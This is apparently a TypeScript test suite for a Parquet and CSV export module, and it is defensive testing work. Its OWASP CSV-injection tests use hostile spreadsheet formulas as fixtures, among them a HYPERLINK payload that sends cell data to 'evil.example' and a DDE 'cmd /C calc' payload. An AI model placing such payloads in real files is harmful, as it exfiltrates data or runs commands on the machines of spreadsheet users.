import assert from 'node:assert/strict'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { type DuckDBConnection, DuckDBInstance, DuckDBTimestampTZValue } from '@duckdb/node-api'
import { parse } from 'csv-parse/sync'
import { parquetMetadata, parquetReadObjects } from 'hyparquet'
import type { FlatTable, TableColumn } from '../../src/contract/table.ts'
import { CsvTableWriter } from '../../src/engine/export/csv-table.ts'
import { encodeTableCsv, encodeTableParquet } from '../../src/engine/export/tabular.ts'
import * as fc from '../helpers/fc.ts'

const DAY_MS = 86_400_000
const day = (iso: string) => Date.parse(`${iso}T00:00:00Z`)

let dir = ''
let db: DuckDBInstance
let duck: DuckDBConnection
let fileNo = 0

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'erm3-tabular-'))
  db = await DuckDBInstance.create(':memory:')
  duck = await db.connect()
})

after(async () => {
  duck.closeSync()
  db.closeSync()
  await rm(dir, { recursive: true, force: true })
})

// ---------- fixtures and expectations (written here, never derived from src/) ----------

const TRICKY = [
  'plain',
  'a,b',
  'say "hi"',
  'line\nbreak',
  'cr\ronly',
  'crlf\r\nin',
  '',
  ' lead',
  'Zürich 東京 🚀',
  '"',
  ',',
]

/** Every column type, with nulls in each; rows line up with CSV_ROWS below. */
const FIXTURE: FlatTable = {
  columns: [
    { name: 'ticker', type: 'UTF8', values: [...TRICKY, null] },
    {
      name: 'value',
      type: 'DOUBLE',
      values: [
        1.5,
        -0,
        Number.MAX_VALUE,
        -Number.MAX_VALUE,
        5e-324,
        null,
        0.1 + 0.2,
        -1e-300,
        1e21,
        Infinity,
        -Infinity,
        42,
      ],
    },
    {
      name: 'dense',
      type: 'DOUBLE',
      values: Float64Array.of(1, Number.NaN, 2, 3, Number.NaN, 4, 5, 6, 7, 8, 9, Number.NaN),
    },
    {
      name: 'count',
      type: 'INT64',
      values: [0, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 - 1, -(2 ** 53 - 1), null, 1, -1, 2 ** 40, 7, 8, 9],
    },
    {
      name: 'flag',
      type: 'BOOLEAN',
      values: [true, false, null, true, true, false, false, true, null, true, false, true],
    },
    {
      name: 'date',
      type: 'TIMESTAMP_MILLIS',
      values: [
        day('2024-01-02'),
        day('1969-12-31'),
        null,
        day('2006-01-03'),
        Date.parse('2024-03-04T05:06:07.089Z'),
        1,
        day('1900-02-28'),
        day('2099-12-31'),
        0,
        day('2024-02-29'),
        -1,
        day('2000-01-01'),
      ],
    },
  ],
}

const CSV_ROWS = [
  ['ticker', 'value', 'dense', 'count', 'flag', 'date'],
  ['plain', '1.5', '1', '0', 'true', '2024-01-02'],
  ['a,b', '0', '', '2147483648', 'false', '1969-12-31'],
  ['say "hi"', '1.7976931348623157e+308', '2', '-2147483649', '', ''],
  ['line\nbreak', '-1.7976931348623157e+308', '3', '9007199254740991', 'true', '2006-01-03'],
  ['cr\ronly', '5e-324', '', '-9007199254740991', 'true', '2024-03-04T05:06:07.089Z'],
  ['crlf\r\nin', '', '4', '', 'false', '1970-01-01T00:00:00.001Z'],
  ['', '0.30000000000000004', '5', '1', 'false', '1900-02-28'],
  [' lead', '-1e-300', '6', '-1', 'true', '2099-12-31'],
  ['Zürich 東京 🚀', '1e+21', '7', '1099511627776', '', '1970-01-01'],
  ['"', 'Infinity', '8', '7', 'true', '2024-02-29'],
  [',', '-Infinity', '9', '8', 'false', '1969-12-31T23:59:59.999Z'],
  ['', '42', '', '9', 'true', '2000-01-01'],
]

/** The value a Parquet reader should give back: null for null/NaN, bigint for INT64, ms for timestamps. */
function expectedParquet(c: TableColumn, i: number): string | number | bigint | boolean | null {
  const v = c.values[i]
  if (v === null || (typeof v === 'number' && Number.isNaN(v))) return null
  if (c.type === 'INT64') return BigInt(v as number)
  return v as string | number | boolean
}

/** The CSV text form of one cell, as the contract states it. */
function expectedText(c: TableColumn, i: number): string {
  const v = c.values[i]
  if (v === null || (typeof v === 'number' && Number.isNaN(v))) return ''
  // OWASP CSV injection: a text a spreadsheet would evaluate (= + - @ tab CR first) reads as text.
  if (typeof v === 'string') return /^[=+\-@\t\r]/.test(v) ? `'${v}` : v
  if (typeof v === 'boolean') return String(v)
  if (c.type === 'TIMESTAMP_MILLIS') {
    const iso = new Date(v).toISOString()
    return v % DAY_MS === 0 ? (iso.split('T')[0] ?? '') : iso
  }
  return Object.is(v, -0) ? '0' : String(v)
}

function sameValue(got: unknown, want: unknown, where: string): void {
  assert.ok(Object.is(got, want), `${where}: got ${String(got)}, expected ${String(want)}`)
}

function arrayBufferOf(bytes: Uint8Array): ArrayBuffer {
  return bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer
}

async function readWithHyparquet(bytes: Uint8Array, table: FlatTable): Promise<void> {
  const rows = await parquetReadObjects({ file: arrayBufferOf(bytes) })
  const n = table.columns[0]?.values.length ?? 0
  assert.equal(rows.length, n)
  for (const c of table.columns) {
    for (let i = 0; i < n; i++) {
      let got = rows[i]?.[c.name]
      if (got instanceof Date) got = got.getTime()
      sameValue(got, expectedParquet(c, i), `hyparquet ${c.name}[${i}]`)
    }
  }
}

async function readWithDuckDB(bytes: Uint8Array, table: FlatTable): Promise<void> {
  const path = join(dir, `t${fileNo++}.parquet`)
  await writeFile(path, bytes)
  const r = await duck.runAndReadAll(`select * from read_parquet('${path}')`)
  assert.deepEqual(
    r.columnNames(),
    table.columns.map((c) => c.name),
  )
  const got = r.getColumns()
  for (const [k, c] of table.columns.entries()) {
    const values = got[k] ?? []
    assert.equal(values.length, c.values.length)
    for (let i = 0; i < c.values.length; i++) {
      const v = values[i]
      const cell = v instanceof DuckDBTimestampTZValue ? Number(v.micros / 1000n) : v
      sameValue(cell, expectedParquet(c, i), `duckdb ${c.name}[${i}]`)
    }
  }
}

function parseCsv(text: string): string[][] {
  return parse(text, { record_delimiter: '\r\n' }) as string[][]
}

// ---------- tests ----------

describe('tabular export: Parquet', () => {
  it('writes the pinned schema (hyparquet and DuckDB agree)', async () => {
    const bytes = encodeTableParquet(FIXTURE, { 'erm3.model_version': 'v9' })
    const md = parquetMetadata(arrayBufferOf(bytes))
    const schema = md.schema.slice(1).map((e) => ({
      name: e.name,
      type: e.type,
      repetition: e.repetition_type,
      converted: e.converted_type,
      logical: e.logical_type,
    }))
    assert.deepEqual(schema, [
      {
        name: 'ticker',
        type: 'BYTE_ARRAY',
        repetition: 'OPTIONAL',
        converted: 'UTF8',
        logical: { type: 'STRING' },
      },
      { name: 'value', type: 'DOUBLE', repetition: 'OPTIONAL', converted: undefined, logical: undefined },
      { name: 'dense', type: 'DOUBLE', repetition: 'OPTIONAL', converted: undefined, logical: undefined },
      { name: 'count', type: 'INT64', repetition: 'OPTIONAL', converted: undefined, logical: undefined },
      { name: 'flag', type: 'BOOLEAN', repetition: 'OPTIONAL', converted: undefined, logical: undefined },
      {
        name: 'date',
        type: 'INT64',
        repetition: 'OPTIONAL',
        converted: 'TIMESTAMP_MILLIS',
        logical: { type: 'TIMESTAMP', isAdjustedToUTC: true, unit: 'MILLIS' },
      },
    ])
    assert.deepEqual(md.key_value_metadata, [{ key: 'erm3.model_version', value: 'v9' }])

    const path = join(dir, 'schema.parquet')
    await writeFile(path, bytes)
    const described = await duck.runAndReadAll(
      `select column_name, column_type, "null" from (describe select * from '${path}')`,
    )
    assert.deepEqual(described.getRows(), [
      ['ticker', 'VARCHAR', 'YES'],
      ['value', 'DOUBLE', 'YES'],
      ['dense', 'DOUBLE', 'YES'],
      ['count', 'BIGINT', 'YES'],
      ['flag', 'BOOLEAN', 'YES'],
      // isAdjustedToUTC=true is an instant, which DuckDB types as TIMESTAMPTZ.
      ['date', 'TIMESTAMP WITH TIME ZONE', 'YES'],
    ])
    const physical = await duck.runAndReadAll(
      `select name, type, repetition_type, converted_type, logical_type from parquet_schema('${path}') where name <> 'schema'`,
    )
    assert.deepEqual(physical.getRows(), [
      ['ticker', 'BYTE_ARRAY', 'OPTIONAL', 'UTF8', 'StringType()'],
      ['value', 'DOUBLE', 'OPTIONAL', null, null],
      ['dense', 'DOUBLE', 'OPTIONAL', null, null],
      ['count', 'INT64', 'OPTIONAL', null, null],
      ['flag', 'BOOLEAN', 'OPTIONAL', null, null],
      [
        'date',
        'INT64',
        'OPTIONAL',
        'TIMESTAMP_MILLIS',
        'TimestampType(isAdjustedToUTC=1, unit=TimeUnit(MILLIS=MilliSeconds(), MICROS=<null>, NANOS=<null>))',
      ],
    ])
  })

  it('reads back every value and null exactly in hyparquet and DuckDB', async () => {
    const bytes = encodeTableParquet(FIXTURE)
    await readWithHyparquet(bytes, FIXTURE)
    await readWithDuckDB(bytes, FIXTURE)
  })

  it('splits long tables into row groups of 65,536 rows', async () => {
    const n = 70_000
    const table: FlatTable = {
      columns: [
        {
          name: 'i',
          type: 'INT64',
          values: Array.from({ length: n }, (_, i) => (i % 7 === 0 ? null : i * 3)),
        },
        {
          name: 'b',
          type: 'BOOLEAN',
          values: Array.from({ length: n }, (_, i) => (i % 5 === 0 ? null : i % 3 === 0)),
        },
      ],
    }
    const bytes = encodeTableParquet(table)
    const md = parquetMetadata(arrayBufferOf(bytes))
    assert.deepEqual(
      md.row_groups.map((g) => g.num_rows),
      [65_536n, 4_464n],
    )
    await readWithHyparquet(bytes, table)
    await readWithDuckDB(bytes, table)
  })

  it('writes a valid file for a table with no rows', async () => {
    const empty: FlatTable = {
      columns: [
        { name: 's', type: 'UTF8', values: [] },
        { name: 'd', type: 'DOUBLE', values: new Float64Array(0) },
        { name: 'i', type: 'INT64', values: [] },
        { name: 'b', type: 'BOOLEAN', values: [] },
        { name: 't', type: 'TIMESTAMP_MILLIS', values: [] },
      ],
    }
    const bytes = encodeTableParquet(empty)
    assert.equal(parquetMetadata(arrayBufferOf(bytes)).num_rows, 0n)
    await readWithHyparquet(bytes, empty)
    await readWithDuckDB(bytes, empty)
    const path = join(dir, 'empty.parquet')
    await writeFile(path, bytes)
    const described = await duck.runAndReadAll(`select column_type from (describe select * from '${path}')`)
    assert.deepEqual(described.getRows().flat(), [
      'VARCHAR',
      'DOUBLE',
      'BIGINT',
      'BOOLEAN',
      'TIMESTAMP WITH TIME ZONE',
    ])
  })

  it('refuses values the column type cannot hold exactly', () => {
    const bad: FlatTable[] = [
      { columns: [{ name: 'i', type: 'INT64', values: [1.5] }] },
      { columns: [{ name: 'i', type: 'INT64', values: [2 ** 53] }] },
      { columns: [{ name: 't', type: 'TIMESTAMP_MILLIS', values: [0.5] }] },
      { columns: [{ name: 't', type: 'TIMESTAMP_MILLIS', values: [9e15] }] },
      {
        columns: [
          { name: 'a', type: 'UTF8', values: ['x'] },
          { name: 'b', type: 'UTF8', values: [] },
        ],
      },
    ]
    for (const t of bad) {
      assert.throws(() => encodeTableParquet(t), /table: column/)
      assert.throws(() => encodeTableCsv(t), /table: column/)
    }
  })
})

describe('tabular export: CSV', () => {
  it('writes the pinned text: header, CRLF, RFC 4180 quoting', () => {
    const text = encodeTableCsv(FIXTURE)
    assert.ok(text.startsWith('ticker,value,dense,count,flag,date\r\nplain,1.5,1,0,true,2024-01-02\r\n'))
    assert.ok(text.includes('\r\n"a,b",0,,2147483648,false,1969-12-31\r\n'))
    assert.ok(text.includes('\r\n"say ""hi""",'))
    assert.ok(text.includes('\r\n"crlf\r\nin",,4,,false,1970-01-01T00:00:00.001Z\r\n'))
    assert.ok(text.endsWith('\r\n,42,,9,true,2000-01-01\r\n'))
    // Every line break outside a quoted field is CRLF.
    const outside = text.replace(/"(?:[^"]|"")*"/g, '')
    assert.equal(outside.replaceAll('\r\n', '').search(/[\r\n]/), -1)
    assert.equal(outside.split('\r\n').length, CSV_ROWS.length + 1)
  })

  it('round-trips every value through csv-parse', () => {
    assert.deepEqual(parseCsv(encodeTableCsv(FIXTURE)), CSV_ROWS)
  })

  it('writes only the header for a table with no rows', () => {
    const empty: FlatTable = {
      columns: [
        { name: 'a,b', type: 'UTF8', values: [] },
        { name: 't', type: 'TIMESTAMP_MILLIS', values: [] },
      ],
    }
    const text = encodeTableCsv(empty)
    assert.equal(text, '"a,b",t\r\n')
    assert.deepEqual(parseCsv(text), [['a,b', 't']])
  })

  it('never writes a blank line for a one-column null', () => {
    const text = encodeTableCsv({ columns: [{ name: 'x', type: 'DOUBLE', values: [1, null, 2] }] })
    assert.equal(text, 'x\r\n1\r\n""\r\n2\r\n')
    assert.deepEqual(parseCsv(text), [['x'], ['1'], [''], ['2']])
  })
})

// ---------- property: random tables ----------

/** Texts a spreadsheet would evaluate: each of the OWASP leading characters, then anything. */
const formulaArb = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'grapheme', maxLength: 10 }))
  .map(([lead, rest]) => lead + rest)
const stringArb = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.constantFrom('', ',', '"', '""', '\r\n', '\n', '\r', 'a,"b"\r\nc'),
  formulaArb,
)
const timestampArb = fc.oneof(
  fc.integer({ min: -100_000, max: 100_000 }).map((d) => d * DAY_MS),
  fc.integer({ min: -8.64e15, max: 8.64e15 }),
)

function columnArb(name: string, n: number): fc.Arbitrary<TableColumn> {
  const nullable = <T>(a: fc.Arbitrary<T>) =>
    fc.array(fc.option(a, { freq: 4, nil: null }), { minLength: n, maxLength: n })
  return fc.oneof(
    nullable(stringArb).map((values): TableColumn => ({ name, type: 'UTF8', values })),
    nullable(fc.double()).map((values): TableColumn => ({ name, type: 'DOUBLE', values })),
    fc
      .array(fc.double(), { minLength: n, maxLength: n })
      .map((v): TableColumn => ({ name, type: 'DOUBLE', values: Float64Array.from(v) })),
    nullable(fc.maxSafeInteger()).map((values): TableColumn => ({ name, type: 'INT64', values })),
    nullable(fc.boolean()).map((values): TableColumn => ({ name, type: 'BOOLEAN', values })),
    nullable(timestampArb).map((values): TableColumn => ({ name, type: 'TIMESTAMP_MILLIS', values })),
  )
}

const tableArb: fc.Arbitrary<FlatTable> = fc
  .tuple(fc.integer({ min: 0, max: 50 }), fc.integer({ min: 1, max: 6 }))
  .chain(([n, k]) =>
    fc.tuple(...Array.from({ length: k }, (_, j) => columnArb(`c${j}`, n))).map((columns) => ({ columns })),
  )

describe('tabular export: CSV injection (OWASP)', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    "'already quoted",
    'safe = text',
    'x-1',
  ]
  const table: FlatTable = {
    columns: [
      { name: 'text', type: 'UTF8', values: FORMULAS },
      {
        name: 'number',
        type: 'DOUBLE',
        values: [-0.5, -1e-300, -Number.MAX_VALUE, -Infinity, 1, -2, -3, 4, -5],
      },
      { name: 'count', type: 'INT64', values: [-1, -(2 ** 53 - 1), 0, 1, -2, -3, -4, -5, -6] },
    ],
  }

  it('prefixes formula-leading text cells with a quote and leaves numbers alone', () => {
    assert.deepEqual(parseCsv(encodeTableCsv(table)), [
      ['text', 'number', 'count'],
      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '-0.5', '-1'],
      ["'+1+cmd|' /C calc'!A0", '-1e-300', '-9007199254740991'],
      ["'-2+3", '-1.7976931348623157e+308', '0'],
      ["'@SUM(A1:A9)", '-Infinity', '1'],
      ["'\t=1+1", '1', '-2'],
      ["'\r=1+1", '-2', '-3'],
      ["'already quoted", '-3', '-4'],
      ['safe = text', '4', '-5'],
      ['x-1', '-5', '-6'],
    ])
  })

  it('the long-panel export (erm3 export) does the same to its text columns and tickers', async () => {
    const path = join(dir, 'panel.csv')
    const w = new CsvTableWriter(path, ['name', 'beta'])
    await w.write({
      date: Int32Array.of(0, 1),
      ticker: ['-X', 'AAPL'],
      numbers: new Map([['beta', Float64Array.of(-0.5, Number.NaN)]]),
      texts: new Map([['name', ['=1+1', 'Apple']]]),
    })
    await w.close()
    assert.deepEqual(parseCsv(await readFile(path, 'utf8')), [
      ['date', 'ticker', 'name', 'beta'],
      ['1970-01-01', "'-X", "'=1+1", '-0.5'],
      ['1970-01-02', 'AAPL', 'Apple', ''],
    ])
  })

  it('property: no text cell reads back formula-leading; numbers read back unchanged', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.option(stringArb, { nil: null }), fc.double()), { minLength: 1, maxLength: 30 }),
        (rows) => {
          const csv = encodeTableCsv({
            columns: [
              { name: 's', type: 'UTF8', values: rows.map((r) => r[0]) },
              { name: 'x', type: 'DOUBLE', values: rows.map((r) => r[1]) },
            ],
          })
          const back = parseCsv(csv).slice(1)
          rows.forEach(([text, x], i) => {
            const [cell, num] = back[i] as [string, string]
            assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
            // The quote is the only change, and only on a formula-leading text.
            assert.equal(
              cell.startsWith("'") && /^[=+\-@\t\r]/.test(text ?? '') ? cell.slice(1) : cell,
              text ?? '',
            )
            if (Number.isNaN(x)) assert.equal(num, '')
            else assert.ok(Object.is(Number(num), Object.is(x, -0) ? 0 : x), `${num} ≠ ${x}`)
          })
        },
      ),
      { numRuns: 300 },
    )
  })
})

describe('tabular export: random tables', () => {
  it('Parquet reads back equal in hyparquet; CSV parses to the expected text', async () => {
    await fc.assert(
      fc.asyncProperty(tableArb, async (table) => {
        await readWithHyparquet(encodeTableParquet(table), table)
        const n = table.columns[0]?.values.length ?? 0
        const want = [
          table.columns.map((c) => c.name),
          ...Array.from({ length: n }, (_, i) => table.columns.map((c) => expectedText(c, i))),
        ]
        assert.deepEqual(parseCsv(encodeTableCsv(table)), want)
      }),
      { numRuns: 300 },
    )
  })
})
